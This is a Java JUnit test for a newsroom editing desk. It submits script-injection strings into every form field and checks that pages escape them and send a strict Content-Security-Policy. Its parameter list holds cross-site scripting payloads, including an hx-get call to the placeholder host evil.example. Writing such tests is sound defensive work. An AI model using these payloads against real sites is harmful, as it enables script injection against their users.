package stoppress.desk.screens;

import static org.assertj.core.api.Assertions.assertThat;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeSet;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import javax.imageio.ImageIO;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import stoppress.desk.AddressPattern;
import stoppress.desk.account.Accounts;
import stoppress.desk.account.Passwords;
import stoppress.desk.account.Role;
import stoppress.desk.account.WaysBack;
import stoppress.desk.mail.Mail;
import stoppress.desk.mail.MailServer;
import stoppress.desk.screens.OpenDesk.Sitting;

/// Script in every field of every form that the running desk shows: the forms are found on its pages, so that a field
/// that is new is filled, too. What each of them came to is then looked at on every page.
class EveryFieldTest {
    /// What would end the session that fills the forms.
    private static final Pattern OUT = Pattern.compile("/sign-out|/account/sessions/.*|/people/[^/]+/(role|end)");
    /// What takes something away, and is therefore done last.
    private static final Pattern LAST =
            Pattern.compile("(?!.*/schedule/end$).*/(end|removal|ending|withdraw|deletion|untie)");
    /// What scripts of the desk's own send: no form has it, and other tests send harm there.
    private static final List<String> BY_SCRIPT = List.of(
            "/sign-in/challenge",
            "/sign-in/passkey",
            "/stories/{id}/steps",
            "/stories/{id}/here",
            "/stories/{id}/fields/{field}",
            "/stories/{id}/picture",
            "/stories/{id}/sound/uploads",
            "/stories/{id}/sound/uploads/{upload}",
            "/stories/{id}/sound/uploads/{upload}/ending",
            "/pictures/uploads",
            "/pictures/uploads/{id}",
            "/pictures/uploads/{id}/ending");
    /// What a page shows only in a state that is not here, and has no words in it but a one-time code or a text to be
    /// tried by a voice.
    private static final List<String> WITHOUT_WORDS = List.of(
            "/sign-in/code",
            "/letters/trial",
            "/letters/{id}/again",
            "/letters/{id}/end",
            "/account/house/end",
            "/account/passkeys/{id}/removal",
            "/partners/pause/removal",
            "/partners/{id}/deliveries/{number}/replay",
            "/partners/{id}/deliveries/{number}/removal",
            "/paper/policies/{slug}/removal",
            "/pictures/{file}/removal",
            "/pictures/{file}/return",
            "/paper/sound/words/again",
            "/partners/{id}/replay",
            "/stories/{id}/sound/again",
            "/stories/{id}/sound/ending",
            "/paper/sound/tries");
    /// What shows no page of the desk's: fragments for scripts, other places, readers' pages in frames.
    private static final List<String> NO_PAGE = List.of(
            "/edit",
            "/sign-in/house",
            "/sign-in/house/return",
            "/sign-in/house/out",
            "/prove/house",
            "/account/house",
            "/stories/{id}/copy",
            "/stories/{id}/steps",
            "/stories/{id}/source",
            "/stories/{id}/sound/uploads/{upload}",
            "/pictures/uploads/{id}",
            "/paper/sound/tries/{id}");

    @RegisterExtension
    private final OpenDesk desk = new OpenDesk(
            new Mail(Optional.of(new MailServer("127.0.0.1", 1, false, true, Optional.empty(), "desk@lamp.example"))),
            Optional.empty());

    private Sitting oda;
    private Sitting ines;
    private String draft;
    private String out;
    private String planned;
    private String edition;
    private String picture;
    private String partner;

    @BeforeEach
    void aHouseInWhichThereIsSomethingOfEverything() throws IOException {
        oda = desk.sitting("Oda", Role.ADMINISTRATOR);
        ines = desk.sitting("Ines", Role.EDITOR);
        desk.database.write(it -> {
            new Accounts(it.sql()).password(oda.account(), Passwords.kept("fog over the estuary"));
            return oda;
        });
        draft = oda.begins();
        out = oda.begins();
        oda.sends("/stories/" + oda.begins() + "/deletion", Map.of());
        planned = oda.begins();
        desk.writes(planned, "The inquiry reports", "It names nobody.");
        String ukrainian = oda.begins();
        desk.writes(ukrainian, "Harbour dues in Ukrainian", "They rise, too.");
        oda.tells("/stories/" + ukrainian + "/fields/language", "{\"was\":\"en\",\"is\":\"uk\"}");
        Sitting nora = desk.sitting("Nora", Role.REPORTER);
        desk.writes(out, "Harbour dues rise", "They rise by six per cent.");
        assertThat(oda.sends("/stories/" + out + "/publish", Map.of("reason", "first", "revision", "2"))
                        .statusCode())
                .isEqualTo(303);
        edition = OpenDesk.address(oda.sends("/stories/" + out + "/editions", Map.of("language", "uk")))
                .substring("/stories/".length());
        desk.writes(out, "Harbour dues rise", "They rise by seven per cent.");
        oda.sends("/stories/" + out + "/live", Map.of("key", "abcdefgh", "text", "The board has met."));
        oda.sends("/stories/" + draft + "/remarks", Map.of("text", "Is it? @Oda", "block", ""));
        oda.sends("/paper/tags", Map.of("name", "Harbour", "description", "Quays."));
        oda.sends("/paper/authors", Map.of("name", "Ines Halloran", "role", "Harbour reporter"));
        oda.sends("/paper/promos", Map.of("text", "The almanac is out", "target", "/tag/harbour/"));
        oda.sends("/paper/policies", Map.of("title", "Gifts", "kind", "ethics", "body", "We take none."));
        oda.sends("/paper/sound/words", Map.of("language", "en", "word", "Sefa", "said", "SAY-fah"));
        oda.sends("/tokens", Map.of("name", "Board", "days", "9", "role", "editor"));
        oda.sends("/people/" + nora.account() + "/end", Map.of());
        oda.sends(
                "/stories/" + planned + "/publish",
                Map.of("reason", "first", "revision", "2", "when", "later", "at", "2027-05-14T07:00"));
        oda.sends("/paper/rules", Map.of("two-for-breaking", "1", "hours", "6"));
        picture = brought();
        partner = OpenDesk.address(oda.sends(
                "/partners", Map.of("name", "The Coast", "endpoint", "http://127.0.0.1:1/hook", "days", "9")));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "'\" autofocus onfocus=\"alert(1)\" x='></textarea></title></select><svg onload=alert(1)>",
                "javascript:alert(1)//<a href=\"&#106;avascript:alert(1)\" hx-get=\"https://evil.example/\">x</a>"
            })
    void scriptInAnyFieldOfAnyFormIsShownAsWordsAndNeverRun(String script) {
        var filled = new TreeSet<String>();
        for (boolean last : new boolean[] {false, true}) {
            for (String page : pages()) {
                for (Element form : Jsoup.parse(sees(page).body()).select("form[method=post]")) {
                    String action = form.attr("action").isEmpty() ? page : form.attr("action");
                    if (OUT.matcher(action).matches() || LAST.matcher(action).matches() != last) {
                        continue;
                    }
                    HttpResponse<String> answer = sent(who(page), form, action, script);
                    assertThat(answer.statusCode()).as(action).isLessThan(500);
                    AttackTest.isHarmless(action, answer);
                    filled.add(action);
                }
            }
        }

        assertThat(forms().stream().filter(address -> filled.stream().noneMatch(it -> names(address, it))))
                .as("forms that no page has shown")
                .isEmpty();
        List<String> showing = pages().stream()
                .filter(page -> {
                    HttpResponse<String> answer = sees(page);
                    AttackTest.isHarmless(page, answer);
                    return Jsoup.parse(answer.body()).wholeText().contains("alert(1)")
                            || answer.body().contains("alert(1)");
                })
                .toList();
        assertThat(showing).as("pages that show what was filled in").hasSizeGreaterThan(10);
    }

    @Test
    void everyPageOfTheDeskIsAmongThoseThatAreLookedAt() {
        List<String> pages = pages();

        assertThat(desk.screens.screens().stream()
                        .filter(it -> it.method().equals("GET"))
                        .map(Screen::address)
                        .filter(it -> !NO_PAGE.contains(it))
                        .filter(address -> pages.stream().noneMatch(it -> names(address, it))))
                .isEmpty();
    }

    @Test
    void noPageAllowsScriptThatIsNotAFileOfTheDesks() {
        for (String page : pages()) {
            HttpResponse<String> answer = sees(page);

            String policy =
                    answer.headers().firstValue("Content-Security-Policy").orElse("");
            assertThat(policy)
                    .as(page)
                    .contains("default-src 'none'", "base-uri 'none'")
                    .doesNotContain("unsafe-inline", "unsafe-eval", "*", "http:", "https:");
            assertThat(answer.statusCode()).as(page).isEqualTo(200);
        }
    }

    /// Every page, with what stands on it.
    private List<String> pages() {
        return List.of(
                "/",
                "/stories",
                "/stories?q=harbour",
                "/stories?deleted=1",
                "/paste",
                "/pictures",
                "/pictures?q=quay",
                "/pictures/" + picture,
                "/people",
                "/partners",
                partner,
                "/account",
                "/audit",
                "/prove",
                "/sign-in",
                "/sign-in/trouble",
                "/invitations/" + desk.invitation(Role.EDITOR),
                "/back/" + wayBack(),
                "/paper",
                "/paper/tags",
                "/paper/authors",
                "/paper/site",
                "/paper/colours",
                "/paper/colours/preview?light=%237a1f3d&dark=%23ff9fb8",
                "/paper/policies",
                "/paper/engines",
                "/paper/sound",
                "/paper/rules",
                "/stories/" + draft,
                "/stories/" + draft + "/remarks",
                "/stories/" + draft + "/publish",
                "/stories/" + draft + "/preview",
                "/stories/" + planned + "/publish",
                "/stories/" + out,
                "/stories/" + out + "/editions",
                "/stories/" + planned + "/editions?q=harbour",
                "/stories/" + edition,
                "/stories/" + edition + "/editions",
                "/stories/" + out + "/sound",
                "/stories/" + out + "/publish",
                "/stories/" + out + "/versions",
                "/stories/" + out + "/live",
                "/stories/" + out + "/withdraw");
    }

    /// Who stands before a page: some are for those who are not in yet.
    private Sitting who(String page) {
        return page.matches("/(sign-in|invitations|back)(/.*)?") ? desk.stranger() : oda;
    }

    private HttpResponse<String> sees(String page) {
        return who(page).sees(page);
    }

    /// Where forms of people's are sent.
    private List<String> forms() {
        return desk.screens.screens().stream()
                .filter(it -> it.method().equals("POST"))
                .map(Screen::address)
                .filter(it -> !BY_SCRIPT.contains(it)
                        && !WITHOUT_WORDS.contains(it)
                        && !OUT.matcher(it).matches())
                .toList();
    }

    private static boolean names(String address, String path) {
        return new AddressPattern(address).names(path.replaceFirst("\\?.*", "")).isPresent();
    }

    /// Sends a form as a browser does, with the script in everything that takes words.
    private static HttpResponse<String> sent(Sitting who, Element form, String action, String script) {
        var fields = new LinkedHashMap<String, String>();
        for (Element field : form.select("input[name], textarea[name]")) {
            String words = field.hasAttr("maxlength")
                    ? script.substring(0, Math.min(script.length(), Integer.parseInt(field.attr("maxlength"))))
                    : script;
            switch (field.attr("type")) {
                case "hidden", "number", "range", "color" -> fields.put(field.attr("name"), field.attr("value"));
                case "checkbox" -> {
                    if (field.hasAttr("checked")) {
                        fields.put(field.attr("name"), field.attr("value"));
                    }
                }
                case "radio" -> fields.putIfAbsent(field.attr("name"), field.attr("value"));
                case "date", "datetime-local" -> fields.put(field.attr("name"), "");
                default -> fields.put(field.attr("name"), words);
            }
        }
        for (Element choice : form.select("select[name]")) {
            Stream.concat(choice.select("option[selected]").stream(), choice.select("option").stream())
                    .findFirst()
                    .ifPresent(it -> fields.put(choice.attr("name"), it.attr("value")));
        }
        fields.remove("form");
        return who.sends(URI.create(action).getRawPath(), fields);
    }

    private String wayBack() {
        return desk.database.write(it -> new WaysBack(it.sql()).make(ines.account(), "", desk.now));
    }

    private String brought() throws IOException {
        var png = new ByteArrayOutputStream();
        ImageIO.write(new BufferedImage(60, 40, BufferedImage.TYPE_INT_RGB), "png", png);
        String upload = found(
                "[0-9a-f]{32}",
                oda.tells("/pictures/uploads", "{\"name\":\"quay.png\",\"size\":\"%d\"}".formatted(png.size()))
                        .body());
        return found(
                "(?<=\"sha256\": ?\")[0-9a-f]{64}",
                desk.send(oda.request("/pictures/uploads/" + upload + "?at=0")
                                .header("Origin", desk.address.toString())
                                .header("Content-Type", "application/octet-stream")
                                .header("Accept", "application/json")
                                .header("X-Form", oda.form())
                                .POST(HttpRequest.BodyPublishers.ofByteArray(png.toByteArray()))
                                .build())
                        .body());
    }

    private static String found(String pattern, String in) {
        var found = Pattern.compile(pattern).matcher(in);
        assertThat(found.find()).as(in).isTrue();
        return found.group();
    }
}
